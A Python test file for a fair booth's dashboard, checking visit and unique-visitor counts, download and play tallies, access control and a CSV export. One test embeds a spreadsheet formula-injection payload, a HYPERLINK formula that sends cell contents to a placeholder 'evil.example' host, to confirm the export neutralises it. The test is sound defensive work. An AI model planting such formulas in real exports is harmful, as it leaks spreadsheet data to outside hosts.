"""A booth's dashboard: visits and unique visitors per day, downloads and plays, the CSV export."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import httpx
from sqlalchemy import func, select

from fair.core.accounts.roles import Role
from fair.core.accounts.viewers import anonymous
from fair.core.db import Database
from fair.core.errors import FairError
from fair.core.tables import utcnow
from fair.hall import dashboard
from fair.hall.actions import visits
from fair.hall.channels import team_channel
from fair.hall.events import BoothSummary
from fair.hall.inputs import CardInput, ChatPost
from fair.hall.models import BoothVisit
from fair.hall.rules import MediaKind
from fair.hall.settings import HallSettings
from fair.hall.uploads import Storage
from tests.core.test_accounts_http import browser
from tests.support.factories import login_cookies, person
from tests.support.hall import MP4, PDF, booth, logged_events, someone, stored_media, viewer
from tests.support.servers import RunningServer

# Visits


async def test_visits_and_unique_visitors_are_counted_per_day(db: Database) -> None:
    """Four looks by three people today, and one yesterday, make two day rows, newest first."""
    organiser = await someone(db, Role.ORGANISER)
    team_user = await person(db)
    made = await booth(db, organiser, team=[team_user])
    returning, once = await someone(db), await someone(db)
    for looker in (returning, returning, once, anonymous("a-browser")):
        await visits.record_visit(db, looker, made.id)
    today = utcnow()
    async with db.transaction() as tx:
        # Yesterday's visit is written directly: the action always counts today.
        yesterday = today - timedelta(days=1)
        earlier = BoothVisit(
            booth_id=made.id, person=returning.person, day=yesterday.date(), at=yesterday
        )
        tx.session.add(earlier)
    board = await dashboard.dashboard(db, await viewer(db, team_user), made.id)
    assert [(d.day, d.visits, d.unique_visitors) for d in board.days] == [
        (today.date(), 4, 3),
        (yesterday.date(), 1, 1),
    ]


async def test_each_visit_tells_the_team_todays_totals(db: Database) -> None:
    """Every visit records hall.booth.visited on booth:<id>:team with today's running totals."""
    organiser = await someone(db, Role.ORGANISER)
    made = await booth(db, organiser)
    first, second = await someone(db), await someone(db)
    for looker in (first, second, first):
        await visits.record_visit(db, looker, made.id)
    visited = [
        json.loads(e.data)
        for e in await logged_events(db, team_channel(made.id))
        if e.type == "hall.booth.visited"
    ]
    day = utcnow().date().isoformat()
    assert visited == [
        {"booth_id": made.id, "day": day, "visits": 1, "unique_visitors": 1},
        {"booth_id": made.id, "day": day, "visits": 2, "unique_visitors": 2},
        {"booth_id": made.id, "day": day, "visits": 3, "unique_visitors": 2},
    ]


async def test_chat_messages_and_cards_are_counted_with_the_day(db: Database) -> None:
    """Today's row counts the chat messages written and the cards left at the booth."""
    organiser = await someone(db, Role.ORGANISER)
    team_user = await person(db)
    made = await booth(db, organiser, team=[team_user])
    visitor = await someone(db)
    await visits.record_visit(db, visitor, made.id)
    for body in ("Hello", "Anyone here?"):
        await visits.post_chat_message(db, visitor, ChatPost(booth_id=made.id, body=body))
    await visits.leave_card(db, visitor, made.id, CardInput(message="Let us talk"))
    board = await dashboard.dashboard(db, await viewer(db, team_user), made.id)
    [today] = board.days
    assert (today.visits, today.chat_messages, today.cards) == (1, 2, 1)


async def test_visit_to_a_draft_is_refused_and_not_counted(db: Database) -> None:
    """A participant cannot look at a draft, so their attempt adds no visit."""
    organiser = await someone(db, Role.ORGANISER)
    draft = await booth(db, organiser, published=False)
    participant = await someone(db)
    try:
        await visits.record_visit(db, participant, draft.id)
    except FairError as refusal:
        assert refusal.code == "hall.booth_not_found"
    else:
        raise AssertionError("the visit to a draft was recorded")
    assert (await dashboard.dashboard(db, organiser, draft.id)).days == []


# Downloads and plays, over HTTP


async def booth_with_files(
    server: RunningServer, document_title: str = "Report"
) -> tuple[int, int, int, dict[str, str]]:
    """A published booth with a document and an interview; its id, their ids, the team's login."""
    db = server.services.db
    team_user = await person(db)
    made = await booth(db, await someone(db, Role.ORGANISER), team=[team_user])
    team = await viewer(db, team_user)
    storage = Storage(server.services.settings.section(HallSettings).upload_path)
    doc = await stored_media(
        db, team, made.id, storage, MediaKind.DOCUMENT, PDF, title=document_title
    )
    interview = await stored_media(
        db, team, made.id, storage, MediaKind.INTERVIEW, MP4, title="Interview"
    )
    return made.id, doc.id, interview.id, await login_cookies(db, team_user)


async def media_figures(server: RunningServer, booth_id: int) -> dict[int, tuple[int, int]]:
    db = server.services.db
    board = await dashboard.dashboard(db, await someone(db, Role.ORGANISER), booth_id)
    return {m.media_id: (m.downloads, m.plays) for m in board.media}


async def test_fetching_a_document_counts_a_download(server: RunningServer) -> None:
    """A document fetched whole counts one download; a later range from the middle does not."""
    booth_id, doc, interview, _cookies = await booth_with_files(server)
    async with browser(server) as http:
        assert (await http.get(f"/media/{doc}")).status_code == 200
        middle = await http.get(f"/media/{doc}", headers={"range": "bytes=100-"})
        assert middle.status_code == 206
    assert await media_figures(server, booth_id) == {doc: (1, 0), interview: (0, 0)}
    used = (await logged_events(server.services.db, team_channel(booth_id)))[-1]
    assert (used.type, json.loads(used.data)) == (
        "hall.media.used",
        {"booth_id": booth_id, "media_id": doc, "kind": "download", "total": 1},
    )


async def test_starting_an_interview_counts_a_play(server: RunningServer) -> None:
    """An interview asked for from byte 0 counts a play; seeking further on does not."""
    booth_id, doc, interview, _cookies = await booth_with_files(server)
    async with browser(server) as http:
        start = await http.get(f"/media/{interview}", headers={"range": "bytes=0-"})
        assert start.status_code == 206
        assert start.content == MP4
        seek = await http.get(f"/media/{interview}", headers={"range": "bytes=200-"})
        assert seek.status_code == 206
        again = await http.get(f"/media/{interview}", headers={"range": "bytes=0-"})
        assert again.status_code == 206
    assert await media_figures(server, booth_id) == {doc: (0, 0), interview: (0, 2)}


# The CSV export


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def file_rows(text: str) -> list[list[str]]:
    """The rows after the `file,kind,downloads,plays` header."""
    rows = csv_rows(text)
    return rows[rows.index(["file", "kind", "downloads", "plays"]) + 1 :]


async def test_dashboard_csv_has_a_row_per_day_and_per_file(server: RunningServer) -> None:
    """The team's CSV export lists today's figures, then each file's downloads and plays."""
    booth_id, doc, _interview, cookies = await booth_with_files(server)
    db = server.services.db
    for looker in (await someone(db), await someone(db)):
        await visits.record_visit(db, looker, booth_id)
    async with browser(server, cookies) as http:
        await http.get(f"/media/{doc}")
        response = await http.get(f"/booths/{booth_id}/dashboard.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith("attachment; filename=")
    assert response.headers["content-disposition"].endswith('-dashboard.csv"')
    assert csv_rows(response.text) == [
        ["day", "visits", "unique_visitors", "chat_messages", "cards"],
        [utcnow().date().isoformat(), "2", "2", "0", "0"],
        [],
        ["file", "kind", "downloads", "plays"],
        ["Report", "document", "1", "0"],
        ["Interview", "interview", "0", "0"],
    ]


async def test_dashboard_csv_neutralises_formulas_in_titles(server: RunningServer) -> None:
    """A file title starting with '=' is exported with a leading quote, so it cannot run."""
    title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    booth_id, _doc, _interview, cookies = await booth_with_files(server, document_title=title)
    async with browser(server, cookies) as http:
        response = await http.get(f"/booths/{booth_id}/dashboard.csv")
    files = file_rows(response.text)
    assert files[0] == ["'" + title, "document", "0", "0"]
    assert all(not row[0].startswith(("=", "+", "-", "@")) for row in files)


def test_csv_neutralises_every_formula_trigger() -> None:
    """Titles starting with = + - @, a tab or a carriage return all get a leading quote."""
    summary = BoothSummary(
        id=1,
        slug="b",
        title="B",
        tagline="",
        state="published",
        theme="",
        logo_url="",
        origin_countries=[],
        destination_countries=[],
        organisation_kinds=[],
    )
    board = dashboard.Dashboard(
        summary=summary,
        days=[],
        media=[
            dashboard.MediaRow(n, title, "document", 0, 0)
            for n, title in enumerate(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "Plain"])
        ],
        cards=[],
        team=[],
        head=0,
    )
    titles = [row[0] for row in file_rows(dashboard.dashboard_csv(board))]
    assert titles == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\t=1", "'\r=1", "Plain"]


async def test_participant_cannot_export_a_dashboard(server: RunningServer) -> None:
    """A participant asking for a booth's CSV gets 403 and no figures."""
    booth_id, _doc, _interview, _cookies = await booth_with_files(server)
    db = server.services.db
    async with browser(server, await login_cookies(db, await person(db))) as http:
        response = await http.get(f"/booths/{booth_id}/dashboard.csv")
    assert response.status_code == 403
    assert "unique_visitors" not in response.text


async def test_a_page_refreshing_its_sections_is_not_counted_as_a_visit(
    server: RunningServer,
) -> None:
    """The booth page's own re-reads after live changes (X-Fair-Refresh) record no visit."""
    db = server.services.db
    organiser = await someone(db, Role.ORGANISER)
    row = await booth(db, organiser)
    async with httpx.AsyncClient(base_url=server.base_url) as http:
        assert (await http.get(f"/booths/{row.slug}")).status_code == 200
        refresh = await http.get(f"/booths/{row.slug}", headers={"X-Fair-Refresh": "sections"})
        assert refresh.status_code == 200
    async with db.reading() as session:
        count = await session.scalar(
            select(func.count(BoothVisit.id)).where(BoothVisit.booth_id == row.id)
        )
    assert count == 1
